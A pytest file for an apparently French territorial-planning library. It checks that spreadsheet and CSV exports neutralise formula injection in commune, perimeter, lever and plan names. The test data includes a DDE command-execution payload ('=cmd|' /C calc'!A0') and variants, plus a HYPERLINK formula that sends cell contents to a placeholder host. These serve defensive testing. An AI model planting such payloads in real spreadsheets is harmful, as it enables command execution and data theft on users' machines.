"""Formula injection: a commune, perimeter, lever or fiche name starting with ``=``, ``+``, ``-``,
``@`` or a tab is written as text by every spreadsheet writer of the library.

Each writer gets the payloads, then the XLSX file is unzipped: no sheet XML holds a formula
element ``<f>``, and each payload is found back exactly as text (with Excel's quote prefix, so
that editing the cell does not turn it into a formula). CSV text cells starting with a formula
character get a leading ``'`` (OWASP rule); numbers, negative ones included, stay numbers.
"""

from __future__ import annotations

import dataclasses
import re
import textwrap
import zipfile
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from territoire_lib import exports
from territoire_lib.dataset import load_territory
from territoire_lib.diagnostic import diagnose
from territoire_lib.xlsx_cells import csv_text

DDE = "=cmd|' /C calc'!A0"
HYPERLINK = '=HYPERLINK("http://exemple.invalid/?d="&A1;"Cliquez ici")'
PAYLOADS = [
    HYPERLINK,
    DDE,
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
]
FORMULA = re.compile(rb"<(?:\w+:)?f[\s>/]")


def sheet_xml(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as z:
        return {n: z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/sheet")}


def texts(path: Path) -> dict[str, openpyxl.cell.Cell]:
    """Every text cell of the workbook, by its text."""
    wb = openpyxl.load_workbook(path)
    return {
        c.value: c
        for ws in wb.worksheets
        for row in ws.iter_rows()
        for c in row
        if isinstance(c.value, str)
    }


def assert_text_only(path: Path, expected: list[str]) -> dict[str, openpyxl.cell.Cell]:
    """No formula anywhere in the workbook; each expected payload is a text cell, exactly."""
    xml = sheet_xml(path)
    assert xml, "no worksheet in the file"
    for name, body in xml.items():
        assert not FORMULA.search(body), f"formula element in {name}"
    cells = texts(path)
    for payload in expected:
        assert payload in cells, f"{payload!r} not kept as text"
        assert cells[payload].data_type == "s"
        assert cells[payload].quotePrefix, f"{payload!r} without quote prefix"
    return cells


# -- the diagnostic: exports.to_xlsx, the batch writer, the dashboard download -------------------
@pytest.fixture(scope="module")
def hostile_diag():
    """The demo with commune 96001 renamed to the DDE payload and a perimeter named with the
    HYPERLINK payload (96001 and 96002), diagnosed at the perimeter."""
    t = load_territory("demo")
    g = t.geography
    communes = g.communes.copy()
    communes.loc[communes["code"] == "96001", "nom"] = DDE
    geo = dataclasses.replace(g, communes=communes, perimeters=dict(g.perimeters))
    geo.add_perimeter("CTG-PIEGE", HYPERLINK, ["96001", "96002"])
    return diagnose(dataclasses.replace(t, geography=geo), "CTG-PIEGE")


def _check_diag_workbook(path: Path) -> None:
    cells = assert_text_only(path, [DDE])
    # the perimeter's name opens the synthesis text: text, not a formula
    synthesis = [v for v in cells if v.startswith(HYPERLINK)]
    assert synthesis and all(cells[v].data_type == "s" for v in synthesis)
    wb = openpyxl.load_workbook(path)
    inclusion = [r for r in wb["Inclusion"].iter_rows(values_only=True)]
    header = inclusion[0]
    by_code = {r[header.index("Code")]: r for r in inclusion[1:]}
    assert by_code["96001"][header.index("Commune")] == DDE


def test_diagnostic_workbook(hostile_diag, tmp_path):
    _check_diag_workbook(exports.to_xlsx(hostile_diag, tmp_path / "diag.xlsx"))


def test_batch_workbook(hostile_diag, tmp_path):
    from territoire_lib.batch.executor import kernel_tables

    path = tmp_path / "lot.xlsx"
    kernel_tables({"territoire": "CTG-PIEGE", "diag": hostile_diag}, str(path), title=HYPERLINK)
    _check_diag_workbook(path)


def test_dashboard_download(hostile_diag, tmp_path):
    from territoire_lib.dashboard.exports_widget import xlsx_bytes

    path = tmp_path / "tdb.xlsx"
    path.write_bytes(xlsx_bytes(hostile_diag, title="Diagnostic"))
    _check_diag_workbook(path)


def test_sheets_and_headers(tmp_path):
    frame = pd.DataFrame({"Commune": PAYLOADS, "Valeur": [-1.5, 2.0, -3.0, 4.0, 5.0, 6.0]})
    frame[DDE] = "x"  # a payload as a column header
    path = exports.to_xlsx({"Communes": frame}, tmp_path / "t.xlsx")
    assert_text_only(path, [*PAYLOADS, DDE])
    ws = openpyxl.load_workbook(path)["Communes"]
    # numbers stay numbers: a negative value is a number, not text
    assert [ws.cell(row=r, column=2).value for r in range(2, 8)] == [-1.5, 2, -3, 4, 5, 6]
    assert ws.cell(row=2, column=2).data_type == "n"


# -- CSV: OWASP rule -----------------------------------------------------------------------------
def test_csv_neutralises_leading_formula_characters(tmp_path):
    frame = pd.DataFrame(
        {
            "Commune": [*PAYLOADS, "\r=1+1", "Saint-Aubin", "-"],
            "Valeur": [-1.5, 2.0, -3.0, 4.0, 5.0, 6.0, 7.0, -8.25, 0.0],
        }
    )
    frame.attrs["formats"] = {"Valeur": "#,##0.00"}
    path = exports.to_csv(frame, tmp_path / "t.csv")
    back = pd.read_csv(path, sep=";", encoding="utf-8-sig", dtype=str, keep_default_na=False)
    assert list(back["Commune"]) == [
        "'" + HYPERLINK,
        "'" + DDE,
        "'+cmd|' /C calc'!A0",
        "'-2+3+cmd|' /C calc'!A0",
        "'@SUM(1+1)*cmd|' /C calc'!A0",
        "'\t=1+1",
        "'\r=1+1",
        "Saint-Aubin",  # a hyphen inside a name is not at the start: unchanged
        "'-",
    ]
    # numbers are not text: -1.5 with two decimals and a decimal comma, no quote
    assert list(back["Valeur"]) == ["-1,50", "2,00", "-3,00", "4,00", "5,00", "6,00", "7,00",
                                    "-8,25", "0,00"]  # fmt: skip


def test_csv_text_rule():
    assert csv_text("=1+1") == "'=1+1"
    assert csv_text("@A1") == "'@A1"
    assert csv_text("Valmont") == "Valmont"
    assert csv_text("") == ""
    assert csv_text(" =1") == " =1"  # a leading space is not read as a formula


# -- scenario workbook -------------------------------------------------------------------------------
def test_scenario_workbook(tmp_path):
    from territoire_lib.scenario import load_scenario, simulate
    from tests.unit.test_scenario import make_territory

    territory = make_territory(
        {
            "96001": {"nom": DDE, "population": 12000, "enfants": 100, "psu": 20, "am": 30},
            "96002": {"nom": "@Beta", "population": 2000, "enfants": 50, "psu": 0, "am": 40},
        }
    )
    text = textwrap.dedent(
        """\
        nom: "+Scénario piégé"
        territoire: "296000011"
        annee_base: 2024
        horizon: [2025, 2027]
        leviers:
          - levier: creche_psu
            commune: "96001"
            annee: 2026
            places: 10
            nom: '=HYPERLINK("http://exemple.invalid/?d="&A1;"Cliquez ici")'
        """
    )
    path = tmp_path / "s.yaml"
    path.write_text(text, encoding="utf-8")
    res = simulate(territory, load_scenario(path))
    out = res.to_xlsx(tmp_path / "s.xlsx")
    cells = assert_text_only(out, [DDE, "@Beta", HYPERLINK])
    wb = openpyxl.load_workbook(out)
    leviers = list(wb["Leviers"].iter_rows(values_only=True))
    assert HYPERLINK in leviers[1]
    # numbers written by the same sheets stay numbers (10 places opened in 2026)
    assert 10 in leviers[1]
    assert cells[DDE].data_type == "s"


# -- plan workbook -------------------------------------------------------------------------------
def test_plan_workbook(tmp_path, plan_sample):
    from territoire_lib.plan import excel

    fiches = list(plan_sample.fiches)
    fiches[0] = dataclasses.replace(fiches[0], title=DDE, pilot="-Commune", partners=("@Caf",))
    fiches[1] = dataclasses.replace(fiches[1], title=HYPERLINK, objective="+10 places")
    doc = dataclasses.replace(plan_sample, fiches=tuple(fiches))
    path = excel.write_workbook(doc, tmp_path / "plan.xlsx")
    assert_text_only(path, [DDE, "-Commune", "@Caf", HYPERLINK, "+10 places"])
    # and the workbook reads back to the same plan
    assert excel.read_workbook(path) == doc.normalised()
